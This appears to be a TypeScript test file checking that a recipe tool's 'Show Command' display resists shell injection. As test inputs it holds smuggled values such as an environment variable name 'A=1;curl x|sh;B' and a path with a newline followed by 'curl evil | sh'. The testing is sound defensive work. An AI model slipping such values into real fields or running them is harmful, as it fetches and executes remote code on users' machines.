// Show Command prints text a user may paste into a shell: recipe strings cannot add a command line through an
// environment variable name (the schema allows only names a shell takes as names) or through a newline in a
// value shown in a comment (model.path, notes).
import { strict as assert } from 'node:assert';
import { validateRecipeText } from '../../core/recipe/loadRecipe';
import { formatCompiledStage } from '../../core/external/display';
import type { CompiledStage } from '../../core/external/compiled';

describe('Show Command with hostile recipe strings', () => {
  it('the schema refuses an environment variable name that is not a name, at its line', () => {
    for (const where of ['model', 'launch']) {
      const text = where === 'model'
        ? 'name: x\nmodel:\n  trainer: command\n  command: [t]\n  env:\n    "A=1;curl x|sh;B": v\nstages:\n  - { id: a, kind: sft, steps: 1 }\n'
        : 'name: x\nstages:\n  - id: a\n    kind: sft\n    steps: 1\n    launch:\n      env:\n        "A=1;curl x|sh;B": v\n';
      const errors = validateRecipeText(text, 'x.recipe.yaml').problems.filter((p) => p.severity === 'error');
      assert.equal(errors.length, 1, JSON.stringify(errors));
      assert.equal(errors[0].range.start.line, where === 'model' ? 6 : 8);
      assert.match(errors[0].message, /A-Za-z_/);
    }
    assert.deepEqual(validateRecipeText('name: x\nmodel: { env: { CUDA_VISIBLE_DEVICES: "0", _x1: y } }\nstages:\n  - { id: a, kind: sft, steps: 1 }\n', 'x.recipe.yaml').problems.filter((p) => p.severity === 'error'), []);
  });

  it('comment lines stay one line, and an invalid name is left out of the command (said in a note)', () => {
    const c: CompiledStage = {
      trainer: 'command', stageId: 'a', argv: ['train', '--x'], cwd: '/w', env: { GOOD: 'v', 'A=1;curl x|sh;B': 'v' },
      outputDir: '/o', initCheckpoint: 'model\ncurl evil | sh', read: { kind: 'command' }, after: [], notes: ['one\ntwo'],
    };
    const text = formatCompiledStage(c);
    const commands = text.split('\n').filter((l) => !l.startsWith('#') && !l.startsWith('    '));
    assert.deepEqual(commands, ["cd /w", 'GOOD=v \\', 'train --x']);
    assert.ok(!/^curl/m.test(text));
    assert.match(text, /^# note: environment variable "A=1;curl x\|sh;B" left out: not a valid name$/m);
  });
});
